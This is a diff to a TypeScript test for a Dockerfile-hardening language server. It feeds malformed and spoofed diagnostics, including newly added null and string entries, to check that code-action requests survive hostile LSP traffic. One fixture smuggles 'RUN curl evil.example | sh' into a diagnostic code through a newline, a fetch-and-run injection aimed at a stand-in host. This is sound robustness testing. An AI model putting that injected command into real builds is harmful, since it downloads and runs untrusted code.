@@ -104,6 +104,9 @@ describe('language server under hostile LSP traffic', function () {
       { range: at(0, 0, 0, 4), message: 'x', source: 'dockerfile-hardener', code: 'foo\nRUN curl evil.example | sh' },
       { range: at(0, 0, 0, 4), message: 'x', source: 'dockerfile-hardener', code: 42 as unknown as string },
       { range: null as unknown as Range, message: 'x', source: 'dockerfile-hardener', code: 'sudo', data: { range: 'x' } },
+      // Not diagnostics at all (a client that sent back what it could not find): it used to crash the request.
+      null as unknown as Diagnostic,
+      'x' as unknown as Diagnostic,
     ];
     const actions = (await send(CodeActionRequest.method, { textDocument: { uri }, range: at(1e9, -3, -1, 1e12), context: { diagnostics: spoofed } })) as { ok: boolean; r?: CodeAction[] };
     assert.ok(actions.ok, JSON.stringify(actions));
